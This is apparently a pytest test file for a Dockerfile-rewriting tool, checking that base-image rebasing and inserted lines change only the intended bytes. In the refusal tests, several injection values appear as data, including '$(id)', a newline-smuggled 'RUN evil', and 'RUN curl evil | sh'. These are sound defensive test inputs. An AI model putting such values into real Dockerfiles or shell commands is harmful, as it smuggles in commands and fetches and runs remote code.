"""Another base: exactly the expected bytes, where the value stands."""

from __future__ import annotations

import pytest

from garboard.dockerfile.parser import parse
from garboard.fixes.from_line import rebasing
from garboard.fixes.new_lines import after_from, at_end
from garboard.model.fix import CannotEdit
from garboard.splices import spliced

NEW = "python:3.12-slim"


def rebased(text: bytes, reference: str = NEW, target: str = "", **args: str) -> bytes:
    return spliced(text, (rebasing(parse(text, "Dockerfile"), target, args, reference),))


@pytest.mark.parametrize(
    ("text", "old", "new"),
    [
        pytest.param(b"FROM python:3.9-slim\nRUN x\n", b"python:3.9-slim", NEW.encode(), id="plain"),
        pytest.param(
            b"\xef\xbb\xbf# syntax=docker/dockerfile:1\r\nfrom   --platform=linux/amd64 python:3.9-slim   as  App # no\r\n".replace(
                b" # no", b""
            ),
            b"python:3.9-slim",
            NEW.encode(),
            id="a mark, CRLF, a platform, blanks",
        ),
        pytest.param(
            b"FROM python:3.9@sha256:" + b"a" * 64 + b"\n",
            b"python:3.9@sha256:" + b"a" * 64,
            NEW.encode(),
            id="a digest",
        ),
        pytest.param(b"ARG V=3.9-slim\nFROM python:$V\n", b"=3.9-slim", b"=3.12-slim", id="the tag in an ARG"),
        pytest.param(b"ARG V=3.9\nFROM python:${V}-slim\n", b"=3.9", b"=3.12", id="a part of the tag in an ARG"),
        pytest.param(
            b'ARG B="python:3.9-slim"\nFROM $B\n', b"python:3.9-slim", NEW.encode(), id="all in an ARG, quoted"
        ),
        pytest.param(b'ARG "B=python:3.9-slim"\nFROM $B\n', b"$B", NEW.encode(), id="the ARG quoted"),
        pytest.param(b"ARG V=3.9\nFROM python:${V:-3.8}-slim\n", b"=3.9", b"=3.12", id="a default that is not used"),
        pytest.param(b"FROM python:${V:-3.9}-slim\n", b":-3.9", b":-3.12", id="a default in the line"),
        pytest.param(b"ARG A=3.9\nARG V=$A\nFROM python:$V-slim\n", b"=3.9", b"=3.12", id="an ARG by another"),
        pytest.param(
            b"FROM docker.io/library/python:3.9-slim\n", b":3.9-slim", b":3.12-slim", id="the registry as it is spelled"
        ),
        pytest.param(
            b"FROM registry-1.docker.io/library/python:3.9-slim\n",
            b":3.9-slim",
            b":3.12-slim",
            id="the same, by its host",
        ),
        pytest.param(
            b'ARG V=3.9\nFROM python:$V-slim\nARG V\nLABEL v="$V"\nRUN curl a/$V\n',
            b"=3.9",
            b"=3.12",
            id="an ARG that its stage uses again",
        ),
        pytest.param(
            b"ARG A=3.9\nARG V=$A\nFROM python:$V-slim\nARG V\nLABEL v=$V\n",
            b"=3.9",
            b"=3.12",
            id="the same, by another",
        ),
        pytest.param(
            b"ARG P=python\nFROM $P:3.9-slim\nARG P\nRUN pip install $P\n",
            b":3.9-slim",
            b":3.12-slim",
            id="what is behind an ARG that its stage uses again",
        ),
        pytest.param(b"ARG V=3.9\nARG S=slim\nFROM python:$V-$S\n", b"=3.9", b"=3.12", id="two of which one changes"),
        pytest.param(
            b"ARG V=3.9\nFROM python:$V-slim AS b\nRUN x\nFROM python:$V-slim\nCOPY --from=b /a /a\n",
            b"=3.9",
            b"=3.12",
            id="stages that share the ARG",
        ),
        pytest.param(
            b"ARG V=3.9\nFROM node:$V AS b\nFROM python:$V-slim\n",
            b"python:$V-slim",
            NEW.encode(),
            id="an ARG that another base shares stays",
        ),
        pytest.param(b"ARG V=3.9\nFROM python:$V-alpine\n", b"python:$V-alpine", NEW.encode(), id="the rest differs"),
        pytest.param(
            b"FROM python:3.9-slim AS base\nRUN x\nFROM base AS t\nRUN y\nFROM base\n",
            b"python:3.9-slim",
            NEW.encode(),
            id="the stage that the last one is built on",
        ),
        pytest.param(
            b"# escape=`\nFROM python:3.9-slim `\n  AS x\nRUN y\n",
            b"python:3.9-slim",
            NEW.encode(),
            id="another escape",
        ),
    ],
)
def test_every_other_byte_stays(text: bytes, old: bytes, new: bytes) -> None:
    assert old in text
    assert rebased(text) == text.replace(old, new)


@pytest.mark.parametrize(
    "text",
    [
        b"ARG V=3.9\nFROM python:$V-slim\nARG V\nRUN pip install tool==$V\n",
        b"ARG V=3.9\nFROM node:$V AS a\nFROM python:$V-slim\nARG V\nLABEL v=$V\n",
        b"ARG V=3.9-alpine\nFROM python:$V\nARG V\nRUN apk add python3=$V\n",
        b"ARG V=3.9\nFROM python:$V-alpine\nARG V\nLABEL v=$V\n",
    ],
)
def test_an_argument_that_is_used_again_is_not_left_behind(text: bytes) -> None:
    with pytest.raises(CannotEdit, match="uses V again"):
        rebased(text)


def test_an_argument_that_is_used_again_gets_no_digest() -> None:
    text, pinned = b"ARG V=3.9\nFROM python:$V\nARG V\nLABEL v=$V\n", f"python:3.12@sha256:{'b' * 64}"
    with pytest.raises(CannotEdit, match="uses V again"):
        rebased(text, pinned)
    assert rebased(text.replace(b"ARG V\n", b""), pinned).startswith(b"ARG V=3.12@sha256:")


def test_a_build_argument_that_is_given_decides() -> None:
    """The line itself then names the base, since a changed default would change nothing."""
    assert rebased(b"ARG V=3.9\nFROM python:$V-slim\n", V="3.8") == b"ARG V=3.9\nFROM python:3.12-slim\n"


def test_what_is_no_name_of_an_image_is_refused() -> None:
    for hostile in ("python:3\nRUN evil", "a b", "$(id)", "a\\\nb", ""):
        with pytest.raises(CannotEdit):
            rebased(b"FROM python:3.9\n", hostile)


LINES = "USER root\nRUN apt-get update && apt-get upgrade -y\nUSER app"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"FROM a\nRUN x\n", b"FROM a\n%s\nRUN x\n"),
        (b"FROM a", b"FROM a\n%s"),
        (b"FROM a AS b\r\n\r\nRUN x\r\n", b"FROM a AS b\r\n%s\r\n\r\nRUN x\r\n"),
        (b"FROM a AS b\nRUN x\nFROM b\nRUN y\n", b"FROM a AS b\n%s\nRUN x\nFROM b\nRUN y\n"),
    ],
)
def test_lines_after_from(text: bytes, expected: bytes) -> None:
    ends = b"\r\n" if b"\r\n" in text else b"\n"
    lines = LINES.encode().replace(b"\n", ends)
    dockerfile = parse(text, "Dockerfile")
    assert spliced(text, (after_from(dockerfile, "", {}, LINES),)) == expected.replace(b"%s", lines)


def test_lines_at_the_end_follow_a_heredoc() -> None:
    text = b"FROM a\nRUN <<E\nx\nE\n\nFROM b\n"
    assert (
        spliced(text, (at_end(parse(text, "Dockerfile"), "0", "RUN y"),)) == b"FROM a\nRUN <<E\nx\nE\nRUN y\n\nFROM b\n"
    )


@pytest.mark.parametrize("user", ["x\nRUN curl evil | sh", "x y", "$(id)", "", "x\\"])
def test_a_user_that_an_image_names_puts_nothing_in(user: str) -> None:
    with pytest.raises(CannotEdit):
        after_from(parse(b"FROM a\n", "Dockerfile"), "", {}, f"USER root\nRUN apt-get upgrade -y\nUSER {user}")
